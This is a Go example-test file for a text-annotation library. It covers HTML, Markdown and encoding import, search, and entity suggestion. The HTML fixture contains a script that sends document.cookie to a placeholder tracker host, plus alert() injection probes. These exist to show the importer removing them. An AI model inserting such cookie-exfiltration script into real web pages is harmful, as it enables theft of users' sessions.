package annotate_test

import (
	"errors"
	"fmt"

	"factmark/annotate"
)

// An HTML page becomes clean text: the article is extracted, scripts and
// handlers are dropped, the canonical URL is kept, and the import says what
// it did.
func ExampleImportFile_html() {
	page := `<!doctype html><html><head>
<title>Flood barrier approved | The Harbour Times</title>
<link rel="canonical" href="https://harbour.example/flood-barrier">
<script>fetch("https://tracker.example/?c=" + document.cookie)</script>
</head><body>
<nav><a href="/">Home</a></nav>
<article>
<h1>Flood barrier approved</h1>
<p onclick="alert(1)">The council voted on <b>Tuesday</b> to build a €48 million barrier.</p>
<img src="https://tracker.example/pixel.gif" width="1" height="1">
<h2>What next</h2>
<p>Work starts in the spring.<script>alert(2)</script></p>
</article></body></html>`
	d, err := annotate.ImportFile("flood.html", []byte(page))
	if err != nil {
		panic(err)
	}
	fmt.Println(d.Source)
	for _, b := range d.Blocks {
		fmt.Printf("%-9s %s\n", b.Kind, d.Index().Slice(b.Range()))
	}
	for _, step := range d.Normalization {
		fmt.Println(step)
	}
	// Output:
	// https://harbour.example/flood-barrier
	// title     Flood barrier approved
	// paragraph The council voted on Tuesday to build a €48 million barrier.
	// heading   What next
	// paragraph Work starts in the spring.
	// html-readability
}

// Markdown: markup is stripped, list items and quotes are paragraphs, the
// top heading is the title.
func ExampleFromMarkdown() {
	md := "# Field notes\n\nThe *delta* flooded [again](https://example.org).\n\n- Levees held\n- Roads closed\n\n> “We were ready,” said the mayor.\n"
	d, err := annotate.FromMarkdown([]byte(md), annotate.TextOptions{})
	if err != nil {
		panic(err)
	}
	fmt.Print(d.Text, "\n")
	fmt.Println(d.Title, d.Normalization)
	// Output:
	// Field notes
	// The delta flooded again.
	// Levees held
	// Roads closed
	// “We were ready,” said the mayor.
	// Field notes [markdown]
}

// A Latin-1 file is converted with a notice; a file that mixes encodings is
// refused with the position of the first bad byte.
func ExampleImportFile_encodings() {
	d, err := annotate.ImportFile("notes.txt", []byte("Caf\xe9 in K\xf6ln"))
	if err != nil {
		panic(err)
	}
	fmt.Println(d.Text)
	fmt.Println(annotate.NormalizationNote(d.Normalization[0]))

	_, err = annotate.ImportFile("mixed.txt", []byte("Zoë and Zo\xeb"))
	var ie *annotate.ImportError
	fmt.Println(err, errors.As(err, &ie), ie.Offset)
	// Output:
	// Café in Köln
	// The file was not UTF-8: read it as Latin-1 (Windows-1252) and converted it to UTF-8. Check accented letters and quotes.
	// mixed.txt: invalid utf-8 at byte 11 true 11
}

// Find in the document: matches are code-point ranges of the text.
func ExampleFinder_Find() {
	ix := annotate.NewIndex("Malmö’s mayor met the MALMO team; Malmöbor is a town.")
	f := annotate.NewFinder(ix, annotate.FindOptions{IgnoreDiacritics: true, WholeWord: true})
	for _, r := range f.Find("malmo") {
		fmt.Println(r, ix.Slice(r))
	}
	// Output:
	// [0, 5) Malmö
	// [22, 27) MALMO
}

// Label all occurrences: after tagging one "Kyiv", the other whole-word
// occurrences not yet tagged as a place.
func ExampleOccurrences() {
	d, _ := annotate.FromText([]byte("Kyiv replied. Kyivstar is a company; Kyiv’s mayor and Kyiv agreed."), annotate.TextOptions{})
	s := annotate.NewState(d, annotate.DefaultSchema())
	first := annotate.Range{Start: 0, End: 4}
	if _, err := s.Apply(annotate.Add(annotate.Annotation{ID: "a-1", Label: "place", Start: first.Start, End: first.End})); err != nil {
		panic(err)
	}
	for _, r := range annotate.Occurrences(s, first, "place") {
		fmt.Println(r, d.Index().Slice(r))
	}
	// Output:
	// [37, 41) Kyiv
	// [54, 58) Kyiv
}

// Suggestions from the rules and a gazetteer of names tagged elsewhere.
func ExampleSuggest() {
	d, _ := annotate.FromText([]byte("Talks\nPresident Volodymyr Zelensky met Keith Kellogg in Kyiv on 20 January 2025, at least 26 days after a $105 million deal."), annotate.TextOptions{})
	s := annotate.NewState(d, annotate.DefaultSchema())
	corpus := map[string][]string{"person": {"Keith Kellogg"}, "place": {"Kyiv", "Kyiv"}}
	for _, x := range annotate.Suggest(s, annotate.SuggestOptions{Gazetteer: corpus}) {
		fmt.Printf("%-6s %-9s %.2f %s\n", x.Label, x.Rule, x.Confidence, d.Index().Slice(x.Range))
	}
	// Output:
	// person title     0.85 Volodymyr Zelensky
	// person gazetteer 0.90 Keith Kellogg
	// place  gazetteer 0.80 Kyiv
	// figure date      0.95 20 January 2025
	// figure duration  0.90 at least 26 days
	// figure money     0.95 $105 million
}
